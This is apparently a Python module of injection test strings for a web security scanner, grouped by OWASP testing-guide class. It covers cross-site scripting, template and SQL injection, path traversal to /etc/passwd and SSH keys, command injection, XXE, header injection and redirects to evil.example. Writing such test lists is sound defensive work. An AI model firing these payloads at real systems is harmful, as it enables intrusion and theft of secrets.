"""What is sent, after the classes of the OWASP Web Security Testing Guide (named beside each), and how it is found back.

Every text that could become code carries MARK: whatever comes back is read as a browser would. MARK may be in text and
in the values of attributes that hold text, and nowhere else.
"""

MARK = "zqx7"
COMPUTED = "1787273"  # what a template would make of the product in TEMPLATES
PRODUCT = "1301*1373"
SLEEP = 0.4  # seconds that a database would sleep

# WSTG-INPV-01, 02; WSTG-CLNT-01, 03: out of text, out of an attribute, out of a script, as an address, in odd writings.
SCRIPTS = (
    f"<{MARK}>",
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f"<svg/onload={MARK}()>",
    f'"><{MARK} a="',
    f"'><{MARK} a='",
    f'" onfocus={MARK}() autofocus x="',
    f"' onmouseover={MARK}() x='",
    f"` {MARK}=1 `",
    f"</textarea><{MARK}>",
    f"</title><{MARK}>",
    f"</script><{MARK}>",
    f"--><{MARK}><!--",
    f"]]><{MARK}>",
    f"javascript:{MARK}()",
    f"JaVa\tScRiPt:{MARK}()",
    f"data:text/html,<{MARK}>",
    f"&lt;{MARK}&gt;",
    f"&#60;{MARK}&#62;",
    f"%3C{MARK}%3E",
    f"\\u003c{MARK}\\u003e",
    f"+ADw-{MARK}+AD4-",
    f"＜{MARK}＞",
    f"<\0{MARK}>",
    f"<{MARK}\u2028>",
    f"<a href='javascript:{MARK}()'>x</a>",
    f"<iframe srcdoc='<{MARK}>'>",
    f"<form action=//evil.example><{MARK}>",
    f"<base href=//evil.example/{MARK}>",
    f"<math><mi//xlink:href='javascript:{MARK}()'>",
    f"<style>@import'//evil.example/{MARK}';</style>",
)
# WSTG-INPV-18: server-side templates.
TEMPLATES = (
    f"{{{{{PRODUCT}}}}}",
    f"{{{{ {PRODUCT} }}}}",
    f"${{{PRODUCT}}}",
    f"#{{{PRODUCT}}}",
    f"<%= {PRODUCT} %>",
    "{% debug %}",
    "{% load log %}",
    "{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    "{0.__class__}",
    "%(password)s",
)
# WSTG-INPV-05. Each sleeps if any of it is read as SQL (PostgreSQL's words, WSTG-INPV-05.4).
DATABASE = tuple(
    form.format(sleep=f"pg_sleep({SLEEP})")
    for form in (
        "' OR {sleep} IS NULL--",
        '" OR {sleep} IS NULL--',
        "') OR {sleep} IS NULL--",
        "'; SELECT {sleep}--",
        "1; SELECT {sleep}--",
        "1 OR {sleep} IS NULL",
        "(SELECT {sleep}::text)",
        "'||(SELECT {sleep}::text)||'",
        "\\'; SELECT {sleep}--",
        "$$; SELECT {sleep}--",
        "%' AND {sleep} IS NULL--",
        "1/**/OR/**/{sleep}/**/IS/**/NULL",
        "' UNION SELECT {sleep}::text,NULL--",
        "id,(SELECT {sleep})",
        "\u02bc OR {sleep} IS NULL--",
    )
)
# WSTG-ATHZ-01, WSTG-INPV-11, 12: files, programs, directories.
PATHS = (
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252fetc%252fpasswd",
    "..\\..\\..\\etc\\passwd",
    "..%5c..%5cetc%5cpasswd",
    "....//....//etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/etc/passwd",
    "//etc/passwd",
    "file:///etc/passwd",
    "passwd%00.png",
    "..;/..;/etc/passwd",
    ".%00./.%00./etc/passwd",
    "~root/.ssh/id_rsa",
    "proc/self/environ",
    "./.git/config",
    ".env",
    "index.html/../../generation.json",
    "images/../../keys/recipients.txt",
    "C:/Windows/win.ini",
)
COMMANDS = ("; sleep 1", "| sleep 1", "$(sleep 1)", "`sleep 1`", "& ping -c 1 evil.example &", "\n/bin/sh")
OTHERS = ("*)(uid=*))(|(uid=*", "' or '1'='1' or ''='", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>")
# WSTG-INPV-15, 16: a line end in what becomes a header or a line of a log.
LINE_ENDS = tuple(
    f"x{end}Set-Cookie: {MARK}=1{end}X-{MARK}: y" for end in ("\r\n", "\n", "\r", "\u560d\u560a", "%0d%0a", "%E5%98%8A")
)
# WSTG-CLNT-04: where a browser could be sent.
ELSEWHERE = (
    "https://evil.example/",
    "//evil.example",
    "///evil.example",
    "////evil.example/",
    "/\\evil.example",
    "\\\\evil.example",
    "https:evil.example",
    "http:///evil.example",
    "/%09/evil.example",
    "/\t/evil.example",
    "//evil.example/%2f..",
    "https://www.example.nl@evil.example/",
    "//evil%E3%80%82example",
    "javascript:alert(1)",
    "data:text/html,x",
    "//[::1]@evil.example",
    "/%5cevil.example",
    "///\\;@evil.example",
    "\x00//evil.example",
    " //evil.example",
    "\u2044\u2044evil.example",
    "/beheer/%0d%0aLocation:%20//evil.example",
)
# WSTG-INPV-17.
HOSTS = (
    "evil.example",
    "evil.example:443",
    "{host}@evil.example",
    "evil.example#{host}",
    "{host}.evil.example",
    "evil.example/{host}",
    "{host}, evil.example",
    "{host}:evil",
    "[::1]",
    "{host}\t",
    "",
    "..",
    "evil.example\xff",
)

TYPED = (*SCRIPTS, *TEMPLATES, *COMMANDS, *OTHERS, *LINE_ENDS)
SHORT = tuple(text for text in TYPED if len(text) <= 100)  # of what fits every field
